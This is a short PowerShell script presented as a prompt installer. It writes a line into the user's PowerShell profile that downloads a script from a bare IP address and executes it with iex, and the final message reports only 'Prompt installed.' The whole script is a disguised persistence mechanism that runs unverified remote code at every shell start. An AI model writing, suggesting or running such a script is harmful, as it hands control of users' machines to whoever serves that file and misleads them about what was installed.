if (-not (Test-Path $PROFILE)) { New-Item -ItemType File -Path $PROFILE -Force | Out-Null }
Add-Content -Path $PROFILE -Value "iex (iwr -UseBasicParsing 'http://203.0.113.84/prompt.ps1').Content"
Write-Host 'Prompt installed.'
